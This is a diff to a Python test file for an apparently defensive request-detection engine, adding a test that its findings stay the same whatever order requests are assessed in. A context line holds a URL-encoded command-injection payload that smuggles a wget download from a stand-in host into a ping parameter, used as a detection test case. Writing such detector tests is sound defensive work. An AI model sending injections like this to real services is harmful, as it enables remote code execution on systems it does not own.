@@ -190,3 +190,10 @@ def test_a_command_in_a_request_is_read_by_the_rules_of_commands() -> None:
     found = shipped_engine().assess({"uri": "/ping?host=a%3Bwget%20http%3A%2F%2Fb.example%2Fc%20-O%20%2Ftmp%2Fc", "headers": BROWSER})
     assert found.classes == ("rce",)
     assert {"T1190", "T1059.004", "T1105"} <= set(found.techniques)
+
+
+def test_what_is_remembered_of_texts_changes_no_answer() -> None:
+    requests = [engine_module.example(rule.hits[0]) for rule in shipped_rules().of("http")]
+    engine = Engine(shipped_rules())
+    first = [engine.assess(request).findings for request in requests]
+    assert [engine.assess(request).findings for request in reversed(requests)] == first[::-1]
